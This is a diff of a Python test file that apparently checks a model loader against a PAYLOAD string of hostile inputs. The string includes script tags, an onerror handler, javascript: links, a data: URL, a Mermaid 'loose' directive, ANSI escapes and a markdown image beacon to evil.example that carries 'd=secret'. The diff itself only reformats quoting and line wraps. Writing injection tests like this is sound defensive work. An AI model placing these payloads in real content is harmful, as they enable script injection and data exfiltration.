@@ -8,9 +8,9 @@ from tmcode.model.load import load_model_text
 PAYLOAD = (
     "<script>document.title='pwned'</script>"
     "<img src=x onerror=\"document.title='pwned'\">"
-    "[click me](javascript:alert(1)) <a href=\"javascript:alert(2)\">a</a> "
+    '[click me](javascript:alert(1)) <a href="javascript:alert(2)">a</a> '
     "![beacon](https://evil.example/b.png?d=secret) data:text/html;base64,PHNjcmlwdD4= "
-    "@everyone | pipe ` tick \"quote\" 'apos' \\l \\n dot-break \\\" esc "
+    '@everyone | pipe ` tick "quote" \'apos\' \\l \\n dot-break \\" esc '
     "\"]; click n0 call alert(); %%{init: {'securityLevel':'loose'}}%% "
     "\x1b[31mANSI\x1b]0;title\x07 end\r\nnext line"
 )
@@ -57,7 +57,9 @@ decisions:
 """
     import json
 
-    return text.replace(": X", ": " + json.dumps(PAYLOAD)).replace("[X]", "[" + json.dumps(PAYLOAD) + "]")
+    return text.replace(": X", ": " + json.dumps(PAYLOAD)).replace(
+        "[X]", "[" + json.dumps(PAYLOAD) + "]"
+    )
 
 
 def check_payload_model_loads() -> None:
